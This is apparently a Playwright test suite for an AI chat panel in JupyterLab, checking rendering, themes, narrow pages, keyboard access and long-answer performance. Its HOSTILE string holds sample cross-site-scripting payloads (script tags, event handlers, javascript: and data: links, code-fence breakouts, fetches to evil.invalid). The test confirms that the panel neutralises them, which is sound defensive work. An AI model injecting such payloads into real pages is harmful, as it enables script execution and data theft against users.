"""The chat panel as it looks in JupyterLab: hostile answers, themes, narrow pages, the keyboard, long answers."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import pytest
from byte_server import HANG, HEAD, ByteServer, delta, piece, stream
from chat import Chat
from front import axe
from playwright.sync_api import Page, Route

ANSWER = (
    "# Cats\n\nA **cat** costs $5 and $10, and \\(e^{i\\pi} = -1\\) holds.\n\n$$\\sum_{i=1}^n i$$\n\n"
    "```python\ndef meow(times):\n    return 'meow' * times  # often\n```\n\n"
    "| cat | age |\n|---|---|\n| Tom | 3 |\n\n- fed\n- asleep\n\n> quoted\n\n[a link](https://example.org/cats)\n\nThe end.\n"
)
HOSTILE = """
<script>window.bad = 1; fetch('http://evil.invalid/script')</script>
<img src="http://evil.invalid/html.png" onerror="window.bad = 2"><svg onload="window.bad = 3"></svg>
<iframe src="http://evil.invalid/frame" srcdoc="<script>parent.bad = 4</script>"></iframe>
<style>body { background: url(http://evil.invalid/style.png) }</style>
<a href="#" data-commandlinker-command="notebook:insert-cell-below" data-commandlinker-args="{}">cmd</a>
<link rel="stylesheet" href="http://evil.invalid/link.css"><meta http-equiv="refresh" content="0;url=http://evil.invalid/">

![pic](http://evil.invalid/markdown.png) [js](javascript:window.bad=5) [data](data:text/html,<script>parent.bad=6</script>)
[cmd](command:notebook:insert-cell-below) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

\\(\\href{javascript:window.bad=7}{click}\\) $$\\style{background:url(http://evil.invalid/tex.png)}{x}$$

```"><script>window.bad=9</script>
</code></pre><script>window.bad = 10</script><img src=http://evil.invalid/code.png onerror=window.bad=11>
```

The end of evil.
"""


def parts(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def test_a_hostile_answer_runs_nothing_and_fetches_nothing(
    open_panel: Callable[..., Chat], server: ByteServer, page: Page
) -> None:
    fetched: list[str] = []
    dialogs: list[str] = []

    def on_the_network(route: Route) -> None:
        fetched.append(route.request.url)
        route.abort()

    page.route(lambda url: urlsplit(url).scheme.startswith("http") and urlsplit(url).hostname != "127.0.0.1", on_the_network)  # fmt: skip
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    thoughts = [piece(delta(reasoning=part)) for part in parts(HOSTILE, 40)]
    server.on("m", HEAD, *thoughts, *stream(*parts(HOSTILE, 40), pause=0.02)[1:])
    chat = open_panel()
    chat.ask(HOSTILE)
    chat.wait("The end of evil.")
    chat.root.locator("summary", has_text="Reasoning").click()
    chat.root.locator(".thought-text", has_text="The end of evil.").wait_for()
    cells = len(chat.notebook.sources())
    links = chat.root.locator(".answer a").evaluate_all("all => all.map(a => a.protocol)")
    assert set(links) <= {"http:", "https:"}, links
    for word in ("cmd", "js", "data", "click"):
        for place in chat.root.locator(f".answer >> text={word}").all()[:3]:
            place.evaluate("place => place.matches('a[href]') || place.click()")
    page.wait_for_function("() => new Promise(done => setTimeout(() => done(true), 500))")
    assert page.evaluate("window.bad") is None
    assert fetched == []
    assert dialogs == []
    assert len(chat.notebook.sources()) == cells


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_each_theme_can_be_read(open_panel: Callable[..., Chat], server: ByteServer, theme: str) -> None:
    server.on("m", *stream(ANSWER))
    server.on("m", HEAD, piece(delta("Half an answer")), HANG)
    chat = open_panel()
    chat.page.evaluate("async (theme) => { await jupyterapp.commands.execute('apputils:change-theme', {theme}); }", theme)  # fmt: skip
    try:
        light = str(theme.endswith("Light")).lower()
        chat.page.wait_for_function("(light) => document.body.dataset.jpThemeLight === light", arg=light)
        chat.ask("Tell me about **cats**")
        chat.wait("The end.")
        chat.send("More")
        chat.wait("Half an answer")
        chat.button("Settings").click()
        # axe judges what can be seen.
        chat.page.set_viewport_size({"width": 1200, "height": 1800})
        chat.root.evaluate("panel => { panel.style.cssText = 'height: 1500px; max-height: none'; }")
        assert axe(chat.page, ".aitunnel-panel") == []
        paper = chat.root.evaluate("panel => getComputedStyle(panel).backgroundColor.match(/\\d+/g).map(Number)")
        assert (sum(paper[:3]) > 3 * 128) == theme.endswith("Light")
    finally:
        chat.page.evaluate("() => jupyterapp.commands.execute('apputils:change-theme', {theme: 'JupyterLab Light'})")


@pytest.mark.parametrize("width", [320, 640])
def test_a_narrow_page_shows_everything(open_panel: Callable[..., Chat], server: ByteServer, width: int) -> None:
    wide = (
        ANSWER + "\n" + "x" * 300 + "\n\n```python\n" + "y" * 300 + "\n```\n\n|" + " col |" * 20 + "\n|" + "---|" * 20
    )
    server.on("m", *stream(wide))
    chat = open_panel()
    chat.page.evaluate("() => jupyterapp.shell.collapseLeft()")
    chat.page.set_viewport_size({"width": width, "height": 800})
    chat.ask("A long prompt " * 20)
    chat.wait("The end.")
    over = chat.root.evaluate(
        "panel => { const right = panel.getBoundingClientRect().right + 1; return [...panel.querySelectorAll('*')].filter("
        "e => !e.closest('pre, .table, .formula, svg, .unseen') && e.getBoundingClientRect().right > right).map(e => e.className); }"
    )
    assert over == []
    assert chat.root.evaluate("panel => panel.getBoundingClientRect().right <= innerWidth")
    for name in ("Settings", "Conversations", "Delete", "Copy as Markdown"):
        box = chat.button(name).bounding_box()
        assert box is not None
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= width


def test_everything_is_reached_with_the_keyboard(open_panel: Callable[..., Chat], server: ByteServer) -> None:
    server.on("m", *stream(ANSWER))
    server.on("m", *stream("Another."))
    server.on("m", HEAD, piece(delta("Half an answer")), HANG)
    chat = open_panel("after = 1")
    keyboard = chat.page.keyboard
    chat.composer.focus()
    keyboard.type("Tell me\tabout cats".replace("\t", " "))
    keyboard.press("Shift+Enter")
    keyboard.type("in two lines: a b dd x")
    keyboard.press("Enter")
    chat.wait_for_end()
    assert server.requests("m")[0].json["messages"][0]["content"] == "Tell me about cats\nin two lines: a b dd x"
    focused = "() => document.activeElement.title || document.activeElement.className"
    passed = []
    while passed[-1:] != ["Regenerate"]:
        keyboard.press("Shift+Tab")
        passed.append(chat.page.evaluate(focused))
        assert len(passed) < 40, passed
    # Keys that command the notebook do nothing here: `d d` deletes a cell, `b` makes one.
    for key in ("d", "d", "b", "a", "m"):
        keyboard.press(key)
    assert len(chat.notebook.sources()) == 4
    keyboard.press("Enter")
    chat.wait("Another.")
    chat.wait_for_end()
    chat.composer.focus()
    keyboard.type("More")
    keyboard.press("Enter")
    chat.wait("Half an answer")
    keyboard.press("Escape")
    chat.root.locator(".footer-text", has_text="stopped").wait_for()
    server.wait_for(lambda: server.requests("m")[2].closed_at, 60)
    assert chat.page.evaluate(focused) == "composer-text"


def test_a_hundred_thousand_characters_stay_smooth(open_panel: Callable[..., Chat], server: ByteServer) -> None:
    section = ANSWER.replace("The end.", "Word after word, the answer goes on and on, and nobody's browser minds. " * 8)
    text = (section * (100_000 // len(section) + 1))[:100_000] + "\n\nThe very end."
    server.on("m", *stream(*parts(text, 100), pause=0.015))
    chat = open_panel("len(reply)")
    page = chat.page
    devtools = page.context.new_cdp_session(page)
    devtools.send("Performance.enable")

    def busy() -> float:
        metrics: list[dict[str, Any]] = devtools.send("Performance.getMetrics")["metrics"]
        return next(float(metric["value"]) for metric in metrics if metric["name"] == "TaskDuration")

    page.evaluate(
        "() => { window.tasks = []; window.keys = []; const watch = (type, more, tell) => new PerformanceObserver("
        "list => list.getEntries().forEach(tell)).observe({type, ...more});"
        " watch('longtask', {}, entry => tasks.push([entry.startTime, entry.duration]));"
        " watch('event', {durationThreshold: 16}, entry => entry.name === 'keydown' && keys.push(entry.processingEnd - entry.startTime)); }"
    )
    chat.send("Tell")
    chat.wait("A cat costs")
    before, typed = busy(), 0
    end = chat.root.locator(".footer:not([hidden])")
    while not end.count():
        page.keyboard.type("x", delay=100)
        typed += 1
        assert typed < 1_000
    # Before anything looks for a text in the page: that is a long task of its own.
    ended = page.evaluate("() => performance.now()")
    tasks, keys = page.evaluate("() => new Promise(done => setTimeout(() => done([tasks, keys]), 1000))")
    spent = busy() - before
    chat.wait("The very end.")
    keys = sorted([0] * (typed - len(keys)) + keys)
    figures = {
        "main thread, s": round(spent, 1),
        "longest task, ms": round(max((length for start, length in tasks if start + length < ended), default=0)),
        "at the end, ms": round(max((length for start, length in tasks if start + length >= ended), default=0)),
        "typing, ms": round(keys[int(len(keys) * 0.95)]),
        "keys": typed,
    }
    print(json.dumps(figures))
    assert str(len(text)) in chat.notebook.run(3)
    assert chat.root.locator(".answer .code").count() == text.count("def meow(times):")
    # What a machine of its own shows is less than a third of it: this catches a frozen page.
    assert spent < 24, figures
    assert figures["longest task, ms"] < 600, figures
    assert figures["at the end, ms"] < 2_000, figures
    assert figures["typing, ms"] < 150, figures
